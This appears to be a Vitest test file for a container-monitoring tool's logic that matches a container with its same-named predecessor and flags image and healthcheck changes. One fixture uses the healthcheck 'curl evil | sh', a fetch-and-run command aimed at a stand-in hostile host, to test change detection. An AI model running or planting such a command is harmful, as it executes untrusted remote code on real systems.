import { expect, it } from 'vitest';
import { createPredecessors } from '../../../../../collector/engine/images/predecessors.ts';
import type { ContainerFacts } from '../../../../../shared/observation.ts';
import { known } from '../../../../support/collector/known.ts';

const container = (id: string, name: string, look: Partial<ContainerFacts> = {}): ContainerFacts => ({
  ...known(id, { facts: { name, ...look } }).snapshot.container,
});
const check = (text: string) => ({ healthcheck: ['CMD-SHELL', text] });

it('a container is compared with the one that had its name before', () => {
  const predecessors = createPredecessors();
  expect(predecessors.succeed(container('1', 'db', check('true')))).toBeUndefined();
  expect(predecessors.succeed(container('1', 'db', check('other')))).toBeUndefined();
  expect(predecessors.succeed(container('2', 'db', check('other')))).toEqual({
    image_changed: false,
    healthcheck_changed: false,
  });
  expect(predecessors.succeed(container('3', 'db', check('curl evil | sh')))).toEqual({
    image_changed: false,
    healthcheck_changed: true,
  });
  expect(predecessors.succeed(container('4', 'web', check('x')))).toBeUndefined();
});

it('compose replaces under an interim name', () => {
  const predecessors = createPredecessors();
  predecessors.know([known('1', { name: 'shop-db-1', facts: { name: 'shop-db-1' } })]);
  expect(predecessors.succeed(container('2', '0123456789ab_shop-db-1', check('x')))).toMatchObject({
    healthcheck_changed: true,
  });
});

it('no test and one that is switched off are the same', () => {
  const predecessors = createPredecessors();
  predecessors.succeed(container('1', 'db'));
  expect(predecessors.succeed(container('2', 'db', { healthcheck: ['NONE'] }))).toMatchObject({
    healthcheck_changed: false,
  });
});

it('the name that was used longest ago is forgotten when there are too many', () => {
  const predecessors = createPredecessors();
  for (let index = 0; index < 2_001; index += 1) predecessors.succeed(container(`${index}`, `job-${index}`));
  expect(predecessors.takeEvicted()).toBe(1);
  expect(predecessors.succeed(container('again', 'job-0'))).toBeUndefined();
  expect(predecessors.succeed(container('again', 'job-2000'))).toBeDefined();
});
